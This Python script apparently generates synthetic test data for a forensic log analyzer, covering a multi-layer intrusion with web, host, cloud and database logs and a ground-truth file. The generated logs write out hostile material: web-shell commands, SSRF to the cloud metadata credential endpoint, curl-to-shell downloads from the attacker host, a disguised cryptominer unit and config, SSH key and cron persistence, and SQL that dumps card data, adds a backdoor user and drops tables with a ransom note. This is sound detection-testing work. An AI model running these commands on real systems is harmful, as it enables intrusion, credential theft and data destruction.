#!/usr/bin/env python3
"""Generates kanshiki's example incident across layers (no hand-typed logs).

  gen-incident.py OUTDIR [--seed N]

One story, with benign noise in every layer:
  web       nginx access log (health checks, shoppers, a crawler, an internet scanner) and the
            ALB's access logs; the attacker uploads a PHP web shell as an "avatar", runs
            commands through it, and makes the site fetch the instance metadata service (SSRF),
            which answers with the instance role's credentials.
  host      loose files in their usual formats: auth.log (administrators' logins, internet
            password guessing, the attacker's key login), shell histories (admin work; the
            attacker's curl | sh, a dropper in a hidden directory, a miner, a key added), a
            crontab line, a systemd unit for the miner, the miner's config.json.
  cloud     the stolen role credentials used from outside (scripts/gen-cloudtrail.py incident:
            secrets, IAM persistence, GPU instances in unused regions, logging tampering).
  database  a MariaDB server_audit log: the application's query mix for three days, a DBA's
            session, and the attacker (with the application's credentials, from the web
            server) enumerating the schema, reading customers and cards whole, creating an
            account, leaving a ransom-note table and dropping tables.

Writes OUTDIR/AWSLogs (CloudTrail + ALB), OUTDIR/web, OUTDIR/host, OUTDIR/db and
OUTDIR/ground_truth.json (the cloud truth of gen-cloudtrail.py plus "layers": what each layer's
attack is, which analyzers must fire, and the attack's records by file and line so tests can
tell attack records from noise). Names and addresses are drawn from the seed; addresses are
documentation or private ranges.
"""
import argparse
import datetime as dt
import gzip
import hashlib
import importlib.util
import io
import json
import os
import random
import urllib.parse

HERE = os.path.dirname(os.path.abspath(__file__))
spec = importlib.util.spec_from_file_location("gen_cloudtrail", os.path.join(HERE, "gen-cloudtrail.py"))
ct = importlib.util.module_from_spec(spec)
spec.loader.exec_module(ct)

UTC = dt.timezone.utc
START = dt.datetime(2026, 11, 20, 0, 0, 0, tzinfo=UTC)
BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
]
CRAWLER = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
HEALTH = "ELB-HealthChecker/2.0"


class Story:
    def __init__(self, seed, truth):
        self.r = random.Random(seed)
        r = self.r
        self.truth = truth
        self.attacker = truth["attacker_ips"][0]          # the same VPS steals and uses the keys
        self.role = truth["stolen_credential"]["role"]
        self.web_host = "web-" + r.choice(["a", "b", "c"]) + str(r.randint(1, 9))
        self.web_priv = "10.0.%d.%d" % (r.randint(1, 9), r.randint(10, 200))
        self.db_priv = "10.0.%d.%d" % (r.randint(10, 19), r.randint(10, 200))
        self.dba_host = "10.0.%d.%d" % (r.randint(20, 29), r.randint(10, 200))
        self.alb_ips = ["10.0.%d.%d" % (r.randint(30, 39), r.randint(2, 250)) for _ in range(2)]
        self.scanner = "192.0.2.%d" % r.randint(150, 199)
        self.guessers = ["192.0.2.%d" % r.randint(200, 254) for _ in range(3)]
        self.users = ["198.51.100.%d" % i for i in r.sample(range(20, 250), 120)]
        self.admins = truth.get("office_ips") or ["198.51.100.10", "198.51.100.11"]
        self.admin_names = r.sample(["ops", "kenji", "maria", "deploy", "sre"], 2)
        self.app_user = r.choice(["shopapp", "webapp", "storefront"])
        self.schema = r.choice(["shop", "store", "commerce"])
        self.other_schema = r.choice(["hr", "finance", "analytics"])
        self.shell = "".join(r.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(8)) + ".php"
        self.hidden = "/var/tmp/." + "".join(r.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(3))
        self.binary = r.choice(["kworkerd", "kthreadd2", "dbus-daemon-helper"])
        self.pool = "%s.%s-pool.example.net" % (r.choice(["xmr", "gulf", "eu"]), r.choice(["moon", "hash", "fast"]))
        self.new_db_user = r.choice(["backup_ro", "sync_svc", "replicator2"])
        self.note_table = r.choice(["README_TO_RECOVER", "PLEASE_READ_ME", "WARNING_RECOVER_DATA"])
        self.attack_lines = {}  # file (relative to OUTDIR) -> [line numbers]
        self.layers = {}

    def mark(self, rel, line):
        self.attack_lines.setdefault(rel, []).append(line)

    def mark_file(self, rel):
        """A file the attacker wrote as a whole: every record in it is the attacker's, whatever
        line a parser gives it (a unit file or a config may be one record)."""
        self.attack_lines[rel] = "all"


def clf(t):
    return t.strftime("%d/%b/%Y:%H:%M:%S +0000")


def write_lines(path, lines, gz=False):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    data = ("\n".join(lines) + "\n").encode()
    if gz:
        buf = io.BytesIO()
        with gzip.GzipFile(fileobj=buf, mode="wb", mtime=0) as z:
            z.write(data)
        data = buf.getvalue()
    with open(path, "wb") as f:
        f.write(data)


# ---- web ------------------------------------------------------------------------------------

def web(s, out):
    r = s.r
    reqs = []  # (time, ip, method, target, status, bytes, ua, attack)

    def add(t, ip, method, target, status, ua, attack=False, size=None):
        reqs.append((t, ip, method, target, status, size if size is not None else r.randint(200, 40000), ua, attack))

    for day in range(3):
        base = START + dt.timedelta(days=day)
        for k in range(0, 86400, 300):  # the load balancer's health checks
            for ip in s.alb_ips:
                add(base + dt.timedelta(seconds=k + r.randint(0, 20)), ip, "GET", "/health", 200, HEALTH, size=2)
        for _ in range(1500):  # shoppers
            t = base + dt.timedelta(seconds=r.randint(0, 86399))
            ip, ua = r.choice(s.users), r.choice(BROWSERS)
            pid = r.randint(1, 400)
            path = r.choice(["/", "/index.php", "/product.php?id=%d" % pid, "/search.php?q=%s" % r.choice(
                ["red+shoes", "select+size", "gift+card", "order+status", "union+jack+shirt"]),
                "/static/css/site.css", "/static/js/app.js", "/uploads/avatars/%d.jpg" % r.randint(1, 300)])
            add(t, ip, "GET", path, 200, ua)
            if r.random() < 0.15:
                add(t + dt.timedelta(seconds=20), ip, "POST", "/cart.php", 302, ua)
            if r.random() < 0.02:  # a shopper changes an avatar
                n = r.randint(301, 900)
                add(t + dt.timedelta(seconds=40), ip, "POST", "/account/avatar.php", 200, ua)
                add(t + dt.timedelta(seconds=42), ip, "GET", "/uploads/avatars/%d.jpg" % n, 200, ua)
            if r.random() < 0.01:
                add(t + dt.timedelta(seconds=5), ip, "GET", "/favicon.ico", 404, ua)
        for _ in range(150):  # a crawler
            t = base + dt.timedelta(seconds=r.randint(0, 86399))
            add(t, "192.0.2.%d" % r.randint(10, 40), "GET",
                r.choice(["/robots.txt", "/sitemap.xml", "/product.php?id=%d" % r.randint(1, 400), "/old-page.html"]),
                r.choice([200, 200, 200, 404]), CRAWLER)
    # an internet scanner on day 2 (noise: low at most)
    t = START + dt.timedelta(days=1, hours=3)
    for p in ["/.env", "/wp-login.php", "/phpmyadmin/", "/.git/config", "/admin.php", "/server-status",
              "/backup.zip", "/config.php.bak", "/actuator/env", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"] * 6:
        t += dt.timedelta(seconds=r.randint(1, 4))
        add(t, s.scanner, "GET", p, 404, "Mozilla/5.0 zgrab/0.x")

    # the attack: an avatar that is a PHP script, commands through it, SSRF to the metadata service
    first = dt.datetime.strptime(s.truth["first_attacker_event"], "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=UTC)
    t = first - dt.timedelta(minutes=26)
    ua = BROWSERS[0]
    add(t, s.attacker, "POST", "/account/avatar.php", 200, ua, True)
    web_first = t
    shell = "/uploads/avatars/" + s.shell
    cmds = ["id", "uname -a", "cat /etc/passwd", "ls -la /var/www/html",
            "cat /var/www/html/config.php",
            "curl -s http://%s:8080/m.sh | sh" % s.attacker]
    for c in cmds:
        t += dt.timedelta(seconds=r.randint(15, 50))
        add(t, s.attacker, "GET", shell + "?cmd=" + urllib.parse.quote(c, safe=""), 200, ua, True)
    import base64
    t += dt.timedelta(seconds=40)
    add(t, s.attacker, "GET", shell + "?c=" + urllib.parse.quote(base64.b64encode(b"cat /proc/self/environ").decode(), safe=""),
        200, ua, True)
    md = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
    for target in (md, md + s.role):
        t += dt.timedelta(seconds=r.randint(30, 90))
        add(t, s.attacker, "GET", "/api/preview.php?url=" + urllib.parse.quote(target, safe=""), 200, "python-requests/2.31.0", True)
    ssrf_time = t
    reqs.sort(key=lambda x: x[0])

    # nginx behind the ALB (real_ip set: the client's address is logged)
    nginx, alb = [], {}
    for t, ip, method, target, status, size, ua, attack in reqs:
        nginx.append('%s - - [%s] "%s %s HTTP/1.1" %d %d "-" "%s"' % (ip, clf(t), method, target, status, size, ua))
        if attack:
            s.mark("web/nginx/access.log", len(nginx))
        if ua == HEALTH:
            continue  # health checks come from the ALB itself
        key = t.strftime("%Y%m%dT%H") + ("00" if t.minute < 30 else "30")
        lb = "app/shop-alb/" + "5e1f0c0a9b8d7e6f"
        line = ('https %s %s %s:%d %s:80 0.001 %.3f 0.000 %d %d %d %d "%s https://shop.example.com:443%s HTTP/1.1" "%s" '
                'ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:elasticloadbalancing:%s:%s:targetgroup/shop/0123456789abcdef '
                '"Root=1-%x-%012x" "shop.example.com" "arn:aws:acm:%s:%s:certificate/abc" 0 %s "forward" "-" "-" "%s:80" "%d" "-" "-"'
                % (t.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z", lb, ip, r.randint(1024, 65535), s.web_priv,
                   r.random() / 10, status, status, r.randint(200, 900), size, method, target, ua, ct.HOME_REGION, ct.ACCOUNT,
                   int(t.timestamp()), r.getrandbits(48), ct.HOME_REGION, ct.ACCOUNT,
                   t.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z", s.web_priv, status))
        alb.setdefault(key, []).append((line, attack))
    write_lines(os.path.join(out, "web/nginx/access.log"), nginx)
    for key, lines in sorted(alb.items()):
        d = os.path.join("AWSLogs", ct.ACCOUNT, "elasticloadbalancing", ct.HOME_REGION, key[:4], key[4:6], key[6:8])
        rel = os.path.join(d, "%s_elasticloadbalancing_%s_app.shop-alb.5e1f0c0a9b8d7e6f_%sZ_%s_%08x.log.gz"
                           % (ct.ACCOUNT, ct.HOME_REGION, key, s.web_priv, r.getrandbits(32)))
        write_lines(os.path.join(out, rel), [l for l, _ in lines], gz=True)
        for i, (_, attack) in enumerate(lines):
            if attack:
                s.mark(rel, i + 1)
    s.layers["web"] = {"attacker_ip": s.attacker, "web_shell": shell, "first_seen": web_first.strftime("%Y-%m-%dT%H:%M:%SZ"),
                       "ssrf_role": s.role, "ssrf_time": ssrf_time.strftime("%Y-%m-%dT%H:%M:%SZ"),
                       "scanner_ip": s.scanner,
                       "expected": ["web_upload_exec", "webshell_cmd", "ssrf_metadata"]}
    return web_first


# ---- host ------------------------------------------------------------------------------------

def touch(path, t):
    """Gives a host file the modification time it would have on the host (the time of its
    last write), so that file times in the timeline tell the story, not the generation time."""
    ts = t.replace(tzinfo=dt.timezone.utc).timestamp() if t.tzinfo is None else t.timestamp()
    os.utime(path, (ts, ts))


def syslog_time(t):
    return t.strftime("%b %d %H:%M:%S").replace(" 0", "  ", 1) if t.day < 10 else t.strftime("%b %d %H:%M:%S")


def host(s, out, web_first):
    r = s.r
    h = s.web_host
    auth = []  # (time, text, attack)
    pid = 1000
    for day in range(3):
        base = START + dt.timedelta(days=day)
        for who, ip in zip(s.admin_names, s.admins):
            for _ in range(3):
                t = base + dt.timedelta(seconds=r.randint(0, 32000))
                pid += r.randint(1, 40)
                auth.append((t, "%s sshd[%d]: Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:%s"
                             % (h, pid, who, ip, r.randint(40000, 60000), "".join(r.choice("ABCDEFabcdef0123456789") for _ in range(43))), False))
                auth.append((t + dt.timedelta(seconds=30), "%s sudo: %8s : TTY=pts/0 ; PWD=/home/%s ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx"
                             % (h, who, who), False))
        for ip in s.guessers:  # password guessing from the internet, never successful
            t = base + dt.timedelta(seconds=r.randint(0, 80000))
            for _ in range(25):
                t += dt.timedelta(seconds=r.randint(1, 5))
                pid += 1
                u = r.choice(["root", "admin", "test", "oracle", "ubuntu"])
                auth.append((t, "%s sshd[%d]: Failed password for invalid user %s from %s port %d ssh2"
                             % (h, pid, u, ip, r.randint(30000, 60000)), False))
        for k in range(0, 86400, 3600):
            t = base + dt.timedelta(seconds=k + 1)
            auth.append((t, "%s CRON[%d]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)" % (h, pid + k), False))
    # the attacker comes back with the key it added
    t = web_first + dt.timedelta(minutes=14)
    auth.append((t, "%s sshd[%d]: Accepted publickey for www-data from %s port %d ssh2: ED25519 SHA256:%s"
                 % (h, pid + 99999, s.attacker, r.randint(40000, 60000), "Q" * 43), True))
    auth.sort(key=lambda x: x[0])
    lines = []
    for t, text, attack in auth:
        lines.append("%s %s" % (syslog_time(t), text))
        if attack:
            s.mark("host/var/log/auth.log", len(lines))
    write_lines(os.path.join(out, "host/var/log/auth.log"), lines)
    touch(os.path.join(out, "host/var/log/auth.log"), auth[-1][0])

    admin_hist = ["sudo apt-get update", "sudo systemctl status nginx", "tail -n 100 /var/log/nginx/error.log",
                  "wget -O /tmp/node_exporter.tar.gz https://github.com/prometheus/node_exporter/releases/download/v1.7.0/node_exporter-1.7.0.linux-amd64.tar.gz",
                  "tar xzf /tmp/node_exporter.tar.gz -C /opt", "df -h", "sudo systemctl restart php8.2-fpm", "exit"]
    write_lines(os.path.join(out, "host/home/%s/.bash_history" % s.admin_names[0]), admin_hist)
    touch(os.path.join(out, "host/home/%s/.bash_history" % s.admin_names[0]), START + dt.timedelta(days=2, hours=9))
    kd = s.hidden + "/" + s.binary
    attack_hist = [
        "id",
        "curl -s http://%s:8080/m.sh | sh" % s.attacker,
        "mkdir -p %s" % s.hidden,
        "wget -q http://%s:8080/%s -O %s" % (s.attacker, s.binary, kd),
        "chmod +x %s" % kd,
        "%s --donate-level 1 -o stratum+tcp://%s:443 -B" % (kd, s.pool),
        "mkdir -p ~/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI%s x' >> ~/.ssh/authorized_keys" % ("k" * 20),
        "(crontab -l 2>/dev/null; echo '*/10 * * * * curl -s http://%s:8080/m.sh | sh') | crontab -" % s.attacker,
        "mysql -h %s -u %s -p %s" % (s.db_priv, s.app_user, s.schema),
    ]
    t_shell = web_first + dt.timedelta(minutes=9)  # the attacker's shell session on the host
    rel = "host/var/www/.bash_history"
    write_lines(os.path.join(out, rel), attack_hist)
    touch(os.path.join(out, rel), t_shell + dt.timedelta(minutes=4))
    s.mark_file(rel)
    write_lines(os.path.join(out, "host/etc/crontab"), [
        "SHELL=/bin/sh", "PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin",
        "17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly",
        "25 6\t* * *\troot\ttest -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
        "30 2\t* * *\troot\t/usr/local/bin/backup-db.sh > /var/log/backup.log 2>&1"])
    touch(os.path.join(out, "host/etc/crontab"), START - dt.timedelta(days=40))
    rel = "host/var/spool/cron/crontabs/www-data"
    write_lines(os.path.join(out, rel), ["# DO NOT EDIT THIS FILE - edit the master and reinstall.",
                                         "*/10 * * * * curl -s http://%s:8080/m.sh | sh" % s.attacker])
    touch(os.path.join(out, rel), t_shell + dt.timedelta(minutes=3, seconds=40))
    s.mark_file(rel)
    write_lines(os.path.join(out, "host/etc/systemd/system/nginx.service"), [
        "[Unit]", "Description=A high performance web server", "After=network.target", "",
        "[Service]", "Type=forking", "ExecStart=/usr/sbin/nginx -g 'daemon on; master_process on;'", "",
        "[Install]", "WantedBy=multi-user.target"])
    touch(os.path.join(out, "host/etc/systemd/system/nginx.service"), START - dt.timedelta(days=60))
    rel = "host/etc/systemd/system/%s.service" % s.binary
    write_lines(os.path.join(out, rel), [
        "[Unit]", "Description=Kernel worker", "After=network.target", "",
        "[Service]", "ExecStart=%s --config=%s/config.json" % (kd, s.hidden), "Restart=always", "",
        "[Install]", "WantedBy=multi-user.target"])
    touch(os.path.join(out, rel), t_shell + dt.timedelta(minutes=5))
    s.mark_file(rel)
    rel = "host" + s.hidden + "/config.json"
    # XMRig's config.json as the dropper writes it (keys of xmrig/xmrig src/config.json): the
    # attacker's pool and wallet, a TLS fallback pool, the worker named after the host. The
    # wallet is derived from the pool name, not drawn, so the other layers' draws stay as they were.
    wallet = "4" + "".join("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"[b % 58]
                           for b in (hashlib.sha512(s.pool.encode()).digest() +
                                     hashlib.sha512(s.pool.encode() + b"#").digest())[:94])
    cfg = {"api": {"id": None, "worker-id": None},
           "http": {"enabled": False, "host": "127.0.0.1", "port": 0, "access-token": None, "restricted": True},
           "autosave": True, "background": True, "colors": False, "donate-level": 1,
           "cpu": {"enabled": True, "huge-pages": True, "max-threads-hint": 75},
           "opencl": {"enabled": False}, "cuda": {"enabled": False},
           "randomx": {"init": -1, "mode": "auto"},
           "pools": [{"algo": "rx/0", "coin": "monero", "url": "stratum+tcp://%s:443" % s.pool, "user": wallet,
                      "pass": "x", "rig-id": h, "nicehash": False, "keepalive": True, "enabled": True, "tls": False},
                     {"algo": "rx/0", "coin": "monero", "url": "stratum+ssl://%s:9000" % s.pool, "user": wallet,
                      "pass": "x", "rig-id": h, "nicehash": False, "keepalive": True, "enabled": True, "tls": True}]}
    os.makedirs(os.path.dirname(os.path.join(out, rel)), exist_ok=True)
    with open(os.path.join(out, rel), "w") as f:
        json.dump(cfg, f, indent=4)
        f.write("\n")
    touch(os.path.join(out, rel), t_shell + dt.timedelta(minutes=2))
    s.mark_file(rel)
    s.layers["host"] = {"host": h, "pool": s.pool, "wallet": wallet, "dropper": kd,
                        "miner_unit": "%s.service" % s.binary, "miner_config": s.hidden + "/config.json",
                        "parsers": ["syslog", "shell_history", "crontab", "systemd_unit", "miner_config"],
                        "expected": ["host_download_exec", "host_persistence", "host_miner", "host_accounts",
                                     "host_miner_config"]}


# ---- database --------------------------------------------------------------------------------

def db(s, out, web_first):
    r = s.r
    recs = []  # (time, user, host, conn, op, db, obj, code, attack)
    qid = [1000]

    def q(t, user, host, conn, sql, attack=False, op="QUERY", schema=None, code=0):
        qid[0] += 1
        recs.append((t, user, host, conn, qid[0], op, s.schema if schema is None else schema, sql, code, attack))

    app_queries = [
        "SELECT id, name, price, stock FROM products WHERE id = %d",
        "SELECT id, name, price FROM products WHERE category_id = %d ORDER BY name LIMIT 20",
        "SELECT id, email, name FROM customers WHERE id = %d",
        "INSERT INTO orders (customer_id, total, created_at) VALUES (%d, 42.50, NOW())",
        "UPDATE products SET stock = stock - 1 WHERE id = %d",
        "SELECT o.id, o.total FROM orders o WHERE o.customer_id = %d ORDER BY o.id DESC LIMIT 10",
        "SELECT last4, brand FROM cards WHERE customer_id = %d",
    ]
    conn = 100
    for day in range(3):
        base = START + dt.timedelta(days=day)
        for _ in range(900):
            t = base + dt.timedelta(seconds=r.randint(0, 86399))
            conn += 1
            recs.append((t, s.app_user, s.web_priv, conn, 0, "CONNECT", s.schema, "", 0, False))
            for k in range(r.randint(1, 3)):
                q(t + dt.timedelta(milliseconds=5 * (k + 1)), s.app_user, s.web_priv, conn, r.choice(app_queries) % r.randint(1, 500))
            recs.append((t + dt.timedelta(milliseconds=50), s.app_user, s.web_priv, conn, 0, "DISCONNECT", s.schema, "", 0, False))
    # a DBA's maintenance session (an interactive client from the admin host: low at most)
    t = START + dt.timedelta(days=1, hours=2)
    conn += 1
    for sql in ["select @@version_comment limit 1", "SHOW DATABASES", "SELECT count(*) FROM orders WHERE created_at > NOW() - INTERVAL 1 DAY",
                "ANALYZE TABLE orders"]:
        t += dt.timedelta(seconds=20)
        q(t, "dba", s.dba_host, conn, sql)
    # the attacker, with the application's credentials (read from config.php), from the web server
    t = web_first + dt.timedelta(minutes=40)
    conn += 1
    aconn = conn
    recs.append((t, s.app_user, s.web_priv, conn, 0, "CONNECT", s.schema, "", 0, True))
    attack = [
        "select @@version_comment limit 1",
        "SHOW DATABASES",
        "SELECT table_schema, table_name, table_rows FROM information_schema.tables WHERE table_schema NOT IN ('mysql','sys')",
        "SELECT user, host, authentication_string FROM mysql.user",
        "SELECT * FROM customers",
        "SELECT * FROM cards",
        "SELECT * FROM %s.employees" % s.other_schema,
        "CREATE USER '%s'@'%%' IDENTIFIED BY 'Zx9!qq'" % s.new_db_user,
        "GRANT ALL PRIVILEGES ON *.* TO '%s'@'%%' WITH GRANT OPTION" % s.new_db_user,
        "CREATE TABLE %s (note TEXT)" % s.note_table,
        "INSERT INTO %s VALUES ('All your data is backed up. Send 0.05 BTC to bc1qexample to recover it.')" % s.note_table,
        "DROP TABLE cards",
        "DROP TABLE customers",
    ]
    for sql in attack:
        t += dt.timedelta(seconds=r.randint(3, 25))
        q(t, s.app_user, s.web_priv, conn, sql, True)
    recs.sort(key=lambda x: (x[0], x[4]))
    lines = []
    rel = "db/mariadb/server_audit.log"
    for t, user, host, c, qi, op, schema, sql, code, att in recs:
        obj = "'" + sql.replace("\\", "\\\\").replace("'", "\\'") + "'" if op == "QUERY" else ""
        lines.append("%s,%s,%s,%s,%d,%d,%s,%s,%s,%d" % (t.strftime("%Y%m%d %H:%M:%S"), "db-1", user, host, c, qi, op,
                                                     schema, obj, code))
        if att:
            s.mark(rel, len(lines))
    write_lines(os.path.join(out, rel), lines)
    s.layers["database"] = {"user": s.app_user, "client": s.web_priv, "conn_id": aconn, "new_user": s.new_db_user,
                            "ransom_table": s.note_table, "tables_read": ["customers", "cards"],
                            "expected": ["db_cli_client", "db_enum", "db_bulk_read", "db_accounts",
                                         "db_destruction", "db_ransom", "db_unused_schema"]}


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("out")
    ap.add_argument("--seed", type=int, default=20261121)
    a = ap.parse_args()
    n = ct.incident(a.out)
    gt_path = os.path.join(a.out, "ground_truth.json")
    truth = json.load(open(gt_path))
    truth["office_ips"] = ct.OFFICE_IPS
    s = Story(a.seed, truth)
    web_first = web(s, a.out)
    host(s, a.out, web_first)
    db(s, a.out, web_first)
    truth["cloud_first_event"] = truth["first_attacker_event"]
    truth["first_attacker_event"] = s.layers["web"]["first_seen"]
    truth["layers"] = s.layers
    truth["attack_records"] = {k: v if v == "all" else sorted(v) for k, v in sorted(s.attack_lines.items())}
    truth["expected"] = ["ec2_role_outside", "new_source", "secrets_bulk", "iam_persistence", "logging_tamper",
                         "unused_region", "run_instances", "exposure"] + s.layers["web"]["expected"] + s.layers["database"]["expected"]
    with open(gt_path, "w") as f:
        json.dump(truth, f, indent=2)
        f.write("\n")
    print("%d CloudTrail records and the web, host and database evidence written under %s" % (n, a.out))


if __name__ == "__main__":
    main()
